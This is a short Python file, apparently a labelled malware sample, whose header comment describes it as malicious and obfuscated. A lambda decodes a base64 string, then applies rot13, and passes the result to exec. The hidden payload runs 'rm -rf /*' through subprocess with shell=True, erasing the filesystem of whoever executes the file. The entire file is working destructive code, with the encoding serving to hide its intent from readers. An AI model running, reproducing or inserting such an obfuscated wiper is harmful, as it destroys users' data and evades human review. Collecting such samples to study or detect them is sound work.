# Malicious, obfuscated: a decoder lambda (base64 then rot13) feeds exec; payload runs `rm -rf /*`.
import base64
import codecs

decode = lambda s: codecs.decode(base64.b64decode(s).decode(), "rot13")  # noqa: E731
exec(decode("dnpjYmVnIGZob2NlYnByZmYKZmhvY2VicHJmZi5laGEoImV6IC1lcyAvKiIsIGZ1cnl5PUdlaHIpCg=="))
